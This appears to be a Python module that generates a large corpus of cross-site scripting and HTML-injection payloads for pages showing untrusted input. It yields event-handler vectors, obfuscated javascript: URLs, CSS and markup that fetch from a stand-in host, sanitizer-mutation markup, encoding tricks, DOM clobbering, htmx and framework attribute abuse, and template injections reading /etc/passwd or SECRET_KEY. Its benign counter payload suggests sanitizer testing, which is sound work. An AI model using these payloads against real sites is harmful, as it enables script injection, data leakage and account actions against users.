"""Families of attacks on pages that show a stranger's words: what runs, fetches, mutates, hides, clobbers."""

from __future__ import annotations

from collections.abc import Iterator

AWAY = "http://nghe-len.example"
JS = "window.__chay=(window.__chay||0)+1"


_CALL = f"{JS}//"


def _handlers() -> Iterator[str]:
    """Yield elements that run by themselves, with the separators and quotes that filters forget."""
    alone = (
        "body onload",
        "body onpageshow",
        "svg onload",
        "style onload",
        "link rel=stylesheet href=/ onload",
        "iframe onload",
        "object data=x onerror",
        "embed src=x onload",
        "frameset onload",
        "img src=x onerror",
        "image src=x onerror",
        "video src=x onerror",
        "audio src=x onloadstart",
        "video><source onerror",
        "input type=image src=x onerror",
        "script src=x onerror",
        "track onerror",
        "input autofocus onfocus",
        "a tabindex=1 autofocus onfocusin",
        "x contenteditable autofocus onfocus",
        "details open ontoggle",
        "marquee onstart",
        "marquee loop=1 width=0 onfinish",
        "isindex autofocus onfocus",
        "svg><animate attributeName=x dur=1s onbegin",
        "svg><set attributeName=x onbegin",
        "svg><image href=x onerror",
        "svg><animateTransform attributeName=x dur=.1s onend",
        "math><maction autofocus tabindex=1 onfocus",
        "p hidden=until-found onbeforematch",
        "div style=content-visibility:auto oncontentvisibilityautostatechange",
        "button popovertarget=p>x<p popover id=p onbeforetoggle",
        "dialog open oncancel",
        "form><input oninvalid",
        "p onanimationstart",
        "p ontransitionrun",
        "p onpointerrawupdate",
        "p onscrollend",
        "p onwheel",
        "p onpaste",
        "body onhashchange",
        "body onmessage",
        "body onunhandledrejection",
        "bgsound src=x onerror",
    )
    yield from (f"<{start}={JS}>" for start in alone)
    gaps = ("/", "\t", "\n", "\r", "\f", "\x0b", "\u00a0", "/ /", "\u2028")
    yield from (f"<img{gap}src=x{gap}onerror={JS}>" for gap in gaps)
    names = ("ONERROR", "oNeRrOr", "\x00onerror", "onerror\x00", "onerror ", "on&#101;rror", "data-x onerror")
    yield from (f"<img src=x {one}={JS}>" for one in names)
    yield from (f"<img src=x onerror={mark}{JS}{mark}>" for mark in ("'", '"', "`"))
    yield f"<img src=x onerror={''.join(f'&#{ord(letter)}' for letter in JS)}>"
    yield f"<img src='x' title='>' onerror={JS}>"
    yield f"<<img src=x onerror={JS}>>"
    yield f"<img src=x onerror={JS} "


def _schemes() -> Iterator[str]:
    """Yield addresses that are programmes, disguised, in every element that follows an address."""
    spelt = (
        f"javascript:{_CALL}",
        f"JaVaScRiPt:{_CALL}",
        f" javascript:{_CALL}",
        f"\x01javascript:{_CALL}",
        f"java\tscript:{_CALL}",
        f"java\nscript:{_CALL}",
        f"java&Tab;script:{_CALL}",
        f"javascript&colon;{_CALL}",
        f"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58{_CALL}",
        f"&#x6A;avascript:{_CALL}",
        f"&#0000106avascript:{_CALL}",
        f"javascript&#x3A;{_CALL}",
        f"javas\x00cript:{_CALL}",
        f"javascript://%0a{_CALL}",
        f"\ufeffjavascript:{_CALL}",
        f"java\u200bscript:{_CALL}",
        f"vbscript:{_CALL}",
        f"livescript:{_CALL}",
        f"view-source:javascript:{_CALL}",
        f"feed:javascript:{_CALL}",
        f"jar:javascript:{_CALL}",
        f"data:text/html,<script>parent.{JS}</script>",
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19jaGF5PTE8L3NjcmlwdD4=",
        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/>",
        f"data:;charset=utf-7,+ADw-script+AD4-{JS}+ADw-/script+AD4-",
        f"blob:javascript:{_CALL}",
    )
    yield from (f'<a href="{one}">x</a>' for one in spelt)
    carriers = (
        "area href",
        "form action",
        "button formaction",
        "input type=submit formaction",
        "iframe src",
        "frame src",
        "embed src",
        "object data",
        "base href",
        "link rel=stylesheet href",
        "img src",
        "img lowsrc",
        "img dynsrc",
        "input type=image src",
        "table background",
        "td background",
        "blockquote cite",
        "video poster",
        "bgsound src",
        "applet code",
        "portal src",
        "fencedframe src",
        "svg><a xlink:href",
        "svg><use href",
        "svg><script href",
        "svg><a><animate attributeName=href values",
        "svg><a><set attributeName=href to",
        "math><maction xlink:href",
        "math href",
        "html manifest",
        "meta http-equiv=refresh content='0;url=x' data-url",
    )
    yield from (f'<{one}="javascript:{_CALL}">x' for one in carriers)
    yield f"<meta http-equiv='refresh' content='0;url=javascript:{_CALL}'>"
    yield f"<meta http-equiv=Set-Cookie content='a=<script>{JS}</script>'>"
    yield f"<object><param name=movie value='javascript:{_CALL}'></object>"


def _fetches() -> Iterator[str]:
    """Yield elements and rules that call a stranger's server when they are only looked at."""
    alone = (
        "img src",
        "img srcset",
        "img src=x sizes=1px srcset",
        "picture><source srcset",
        "video src",
        "audio src",
        "video poster",
        "track src",
        "input type=image src",
        "iframe src",
        "frame src",
        "object data",
        "embed src",
        "link rel=prefetch href",
        "link rel=preload as=image href",
        "link rel=preconnect href",
        "link rel=icon href",
        "link rel=dns-prefetch href",
        "link rel=modulepreload href",
        "link rel=manifest href",
        "link rel=stylesheet href",
        "link rel=prerender href",
        "script src",
        "script type=module src",
        "body background",
        "table background",
        "bgsound src",
        "svg><image href",
        "svg><image xlink:href",
        "svg><use href",
        "svg><filter><feImage href",
        "svg><script href",
        "base href",
        "portal src",
        "html manifest",
        "applet archive",
    )
    yield from (f"<{one}='{AWAY}/20'>" for one in alone)
    yield f"<a ping='{AWAY}/21' href='#x'>x</a>"
    yield "<img src=//nghe-len.example/22><img src=\\\\nghe-len.example\\23>"
    yield f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{AWAY}/24"]}}]}}</script>'
    rules = (
        f"background:url({AWAY}/30)",
        f"background-image:\\75rl('{AWAY}/31')",
        f"background:u/**/rl({AWAY}/32)",
        f"list-style:url({AWAY}/33)",
        f"cursor:url({AWAY}/34),auto",
        f"content:url({AWAY}/35)",
        f"mask-image:url({AWAY}/36)",
        f"filter:url({AWAY}/37#x)",
        f"border-image:url({AWAY}/38)",
        f"background:image-set('{AWAY}/39' 1x)",
        f"--x:url({AWAY}/40);background:var(--x)",
        f"behavior:url({AWAY}/41)",
        f"-moz-binding:url({AWAY}/42#x)",
        f"width:expression({JS})",
        f"background:url(javascript:{_CALL})",
        f"shape-outside:url({AWAY}/43)",
        f"clip-path:url({AWAY}/44#x)",
        f"background:URL&#40;{AWAY}/45&#41;",
        f"position:fixed;inset:0;background:url(&quot;{AWAY}/46&quot;)",
    )
    yield from (f'<p style="{rule}">x</p>' for rule in rules)
    sheets = (
        f"@import '{AWAY}/50';",
        f"@import url({AWAY}/51);",
        f"@\\69mport '{AWAY}/52';",
        f"@charset 'x';@import'{AWAY}/53'",
        f"@font-face{{font-family:x;src:url({AWAY}/54)}}*{{font-family:x}}",
        f"*{{background:url({AWAY}/55)}}",
        f"input[value^=a]{{background:url({AWAY}/56)}}",
        f"@keyframes x{{from{{background:url({AWAY}/57)}}}}",
        f"</style><img src=x onerror={JS}>",
        f"<!--*{{}}--></style><script>{JS}</script>",
    )
    yield from (f"<style>{sheet}</style>" for sheet in sheets)


def _mutations() -> Iterator[str]:
    """Yield markup that means one thing to a cleaner and another to the browser after it."""
    bang = f"<img src=x onerror={JS}>"
    told = bang.replace("<", "&lt;").replace(">", "&gt;")
    holders = (
        "noscript",
        "template",
        "style",
        "title",
        "textarea",
        "xmp",
        "noembed",
        "noframes",
        "iframe",
        "select",
    )
    yield from (f'<{one}><p title="</{one}>{bang}">' for one in holders)
    yield from (
        f'<svg></p><{one}><a id="</{one}>{bang}">' for one in ("style", "title", "desc", "foreignObject")
    )
    yield from (
        f'<math><mtext><{one}><mglyph><style><!--</style><a title="--&gt;{told}">'
        for one in ("table", "form", "p")
    )
    yield from (
        f'<math><annotation-xml encoding="{one}"><style><img src="</style>{bang}">'
        for one in ("text/html", "x")
    )
    yield f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{bang}">'
    yield f'<math><mtext><table><mglyph><style><math><a title="</style>{bang}">'
    yield f"<svg><![CDATA[><image xlink:href=']]>{bang}'//]]></svg>"
    yield f"<![CDATA[{bang}]]>"
    yield from (f"<!--{one}{bang}-->" for one in (">", "->", "-->", " --!>", "--!>", "[if gte IE 4]>"))
    yield f"<!-- <p title='--><img src=x onerror={JS}>'> -->"
    yield from (
        f"<{one}{bang}"
        for one in ("?xml version=1?>", "!doctype html>", "!ELEMENT x>", "/ x>", "%>", "/br/x>", "? >")
    )
    yield f"<table><td><table><tr><form>{bang}</table></td><style></table>{bang}"
    yield f"<select><option><style></option></select>{bang}</style>"
    yield f"<div id='x' title='`><img src=x onerror={JS}>'>"
    yield f"<svg><style>&lt;img src=x onerror={JS}&gt;</style>"
    yield f"<svg><script>{JS.replace('=', '&#61;')}</script></svg>"
    yield f"<svg><foreignObject><iframe srcdoc='{told}'></iframe></foreignObject></svg>"
    yield "<b>" * 60 + bang
    yield f"<template shadowrootmode=open>{bang}</template>"
    yield f"<noscript><noscript></noscript><p title='</noscript>{bang}'></noscript>"
    yield f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{JS}</x:script>"
    yield f"<xml><i><b>{told}</b></i></xml>"
    yield f"<frameset><frame src='javascript:{_CALL}'></frameset>"


def _disguises() -> Iterator[str]:
    """Yield other letters, other alphabets and half-read bytes that become markup when decoded twice."""
    plain = f"<script>{JS}</script>"
    yield f"+ADw-script+AD4-{JS}+ADw-/script+AD4-"
    yield f"<meta charset=utf-7>+ADw-script+AD4-{JS}+ADw-/script+AD4-"
    yield f"<meta http-equiv=content-type content='text/html;charset=utf-16'>{plain}"
    yield f"\u00bcscript\u00be{JS}\u00bc/script\u00be"
    yield f"\x1b$B{plain}\x1b(B"
    yield f"<\x00s\x00c\x00r\x00i\x00p\x00t\x00>{JS}"
    yield f"\u017fcript <\u017fcript>{JS}</\u017fcript>"
    yield f"\u2039script\u203a{JS}\u2039/script\u203a"
    yield f"\u202e{plain}\u202c\u2066{plain}\u2069"
    yield "".join(f"&#x{ord(letter):x};" for letter in plain)
    yield "".join(f"&amp;#{ord(letter)};" for letter in plain)
    yield "".join(f"%{ord(letter):02X}" for letter in plain)
    yield "".join(f"\\x{ord(letter):02x}" for letter in plain)
    yield f"\\74script\\76{JS}"
    yield f"=?utf-8?q?{plain}?="
    yield f"\ufeff\ufffe{plain}"
    yield f"a\u0338<script\u0338>{JS}</script>"
    yield (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk="
        + JS
        + f" )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={JS}//>\\x3e"
    )
    yield f"'\"--></title></textarea></style></noscript></template></script><svg/onload={JS}>"
    yield f"\";{JS};'/*\\';{JS};/*`;{JS};//--></script>\">'><img src=x onerror={JS}>"


def _clobbers() -> Iterator[str]:
    """Yield elements named like things a page's own programme looks up, and its own attributes abused."""
    names = (
        "body",
        "cookie",
        "htmx",
        "attributes",
        "location",
        "document",
        "currentScript",
        "getElementById",
    )
    yield from (f"<form id={one} name={one}><input name={one}></form>" for one in names)
    yield f"<a id=htmx></a><a id=htmx name=config href='{AWAY}/60'>x</a>"
    rules = (
        f"hx-get={AWAY}/61 hx-trigger=load",
        f"data-hx-get={AWAY}/62 data-hx-trigger=load",
        f"hx-on::load={JS}",
        f"hx-on:click={JS} autofocus",
        f"hx-vals='js:{{a:{JS}}}' hx-get=/ hx-trigger=load",
        "hx-post=/tai-khoan/logout/ hx-trigger=revealed",
        f"hx-swap-oob=beforeend:body data-x={JS}",
        f"x-data x-init={JS}",
        f"v-html={JS}",
        f"ng-init={JS} ng-app",
        f"@load={JS}",
        "data-live-topic=queue:all",
    )
    yield from (f"<p {rule}>x</p>" for rule in rules)


def _templates() -> Iterator[str]:
    """Yield what template languages, address finders and mark-up of plain text would make something of."""
    yield from (
        f"${{{JS}}}",
        f"#{{{JS}}}",
        f"<%= {JS} %>",
        f"[[{JS}]]",
        f"{{{{{JS}}}}}",
        f"{{!{JS}!}}",
        f"{{%raw%}}<script>{JS}</script>",
        "{{ request.user.password }}",
        "{% include '/etc/passwd' %}",
        "{% debug %}{{ settings.SECRET_KEY }}",
        "%(x)s %s {0.__class__}",
        f"{{{{constructor.constructor('{JS}')()}}}}",
        f"{{{{_self.env.display('{JS}')}}}}",
        f"[x](javascript:{_CALL})",
        f"![x]({AWAY}/70)",
        f"<javascript:{_CALL}>",
        f"[x]: javascript:{_CALL}",
        f"`<script>{JS}</script>`",
        f"[a]({AWAY}/71 \"' onmouseover='{JS}\")",
        f'https://a.example/"onmouseover="{JS}',
        f"https://a.example/'><img/src=x/onerror={JS}>",
        f"http://a.example/<script>{JS}</script>",
        f"www.a.example/`onmouseover=`{JS}",
        f'a@b.example"onfocus="{JS}',
        f"mailto:a@b.example?subject=<script>{JS}</script>",
        f"javascript://a.example/%0a{JS}",
        f'ftp://a.example/"><svg/onload={JS}>',
        f"\nX-Them: <script>{JS}</script>",
        f"\r\n\r\n<script>{JS}</script>",
    )


FAMILIES = (_handlers, _schemes, _fetches, _mutations, _disguises, _clobbers, _templates)
